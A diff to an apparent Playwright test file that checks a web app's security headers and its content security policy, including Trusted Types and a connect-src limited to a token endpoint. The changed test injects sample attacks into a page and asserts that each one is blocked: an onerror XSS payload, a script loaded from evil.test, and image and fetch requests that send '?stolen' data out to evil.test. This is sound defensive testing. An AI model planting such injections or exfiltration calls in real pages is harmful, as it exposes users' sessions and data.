@@ -34,6 +34,7 @@ function send(
 }
 
 const COMMON = {
+  "cross-origin-resource-policy": "same-origin",
   "strict-transport-security": "max-age=31536000; includeSubDomains",
   "x-content-type-options": "nosniff",
   "x-frame-options": "DENY",
@@ -43,7 +44,6 @@ const COMMON = {
 const OF_THE_API = {
   ...COMMON,
   "content-security-policy": "default-src 'none'; frame-ancestors 'none'",
-  "cross-origin-resource-policy": "same-origin",
 };
 
 test("documents, assets, redirects and refusals carry the security headers", async () => {
@@ -71,6 +71,8 @@ test("documents, assets, redirects and refusals carry the security headers", asy
     const policy = answer.headers["content-security-policy"] ?? "";
     expect(policy).toContain("default-src 'none'; script-src 'self'; style-src 'self'");
     expect(policy).toContain("frame-ancestors 'none'");
+    expect(policy).toMatch(/; connect-src 'self' \S+\/api\/oauth2\/token; /);
+    expect(policy).toContain("; require-trusted-types-for 'script'; trusted-types 'none'");
     expect(policy).not.toMatch(/unsafe-|\*/);
     const { location } = answer.headers;
     if (location !== undefined) expect(location).toMatch(/^\/(?!\/)/);
@@ -209,7 +211,7 @@ test("the sign-in cookie is HttpOnly and SameSite", async () => {
   expect(headers["set-cookie"]?.[0]).toMatch(/HttpOnly; SameSite=Lax$/);
 });
 
-test("the content security policy blocks and reports inline scripts, styles and frames", async ({
+test("the content security policy blocks and reports scripts, styles, frames, pictures and requests", async ({
   page,
   newEden,
   expectedErrors,
@@ -217,9 +219,16 @@ test("the content security policy blocks and reports inline scripts, styles and 
   const name = pilotName("Injector");
   await newEden.createPilot({ name });
   await signUp(page, name);
+  const policy = String((await send("GET", "/")).headers["content-security-policy"]);
+  const [, tokenUrl = ""] = /connect-src 'self' (\S+);/.exec(policy) ?? [];
   // The attacks start here; before this point, any report fails the test.
-  expectedErrors.push(/Content Security Policy/, /^Asked evil.test$/);
-  const violated = await page.evaluate(async () => {
+  expectedErrors.push(
+    /Content Security Policy/,
+    /'Trusted(HTML|Script|ScriptURL)'/,
+    /status of 400/,
+    /^Asked evil.test$/,
+  );
+  const violated = await page.evaluate(async (discordTokenUrl) => {
     const reports: string[] = [];
     document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
       reports.push(effectiveDirective),
@@ -227,24 +236,50 @@ test("the content security policy blocks and reports inline scripts, styles and 
     const add = (tag: string, attributes: Record<string, string>, text = "") => {
       const element = document.createElement(tag);
       for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
-      element.textContent = text;
+      element.append(text);
       document.body.append(element);
     };
+    const failureOf = (attack: () => unknown) => {
+      try {
+        attack();
+        return "none";
+      } catch (error) {
+        return error instanceof Error ? error.name : "unknown";
+      }
+    };
+    const failures = [
+      () => add("script", { src: "https://evil.test/x.js" }),
+      () => (document.body.innerHTML = "<img src=x onerror=alert(1)>"),
+      () => document.write("<p>"),
+    ].map(failureOf);
     add("script", {}, "globalThis.isOwned = true");
     add("style", {}, "body { display: none }");
     add("p", { style: "color: red" });
     add("iframe", { src: "/" });
-    add("script", { src: "https://evil.test/x.js" });
     add("img", { src: "https://evil.test/x.png?stolen" });
-    await fetch("https://evil.test/").catch(() => {});
+    const isSent = (url: string) =>
+      fetch(url, { method: "POST" }).then(
+        () => true,
+        () => false,
+      );
+    const foreign: string = "https://evil.test/x.js";
+    await import(foreign).catch(() => {});
+    const sent = {
+      evil: await isSent("https://evil.test/"),
+      discord: await isSent(discordTokenUrl.replace("/token", "/token/revoke")),
+      token: await isSent(discordTokenUrl),
+    };
     await new Promise((resolve) => setTimeout(resolve, 200));
-    return { reports, isOwned: "isOwned" in globalThis };
-  });
+    return { reports, failures, sent, isOwned: "isOwned" in globalThis };
+  }, tokenUrl);
   expect(violated.isOwned).toBe(false);
+  expect(violated.failures).toEqual(["TypeError", "TypeError", "TypeError"]);
+  expect(violated.sent).toEqual({ evil: false, discord: false, token: true });
   expect([...new Set(violated.reports)].toSorted()).toEqual([
     "connect-src",
     "frame-src",
     "img-src",
+    "require-trusted-types-for",
     "script-src-elem",
     "style-src-attr",
     "style-src-elem",
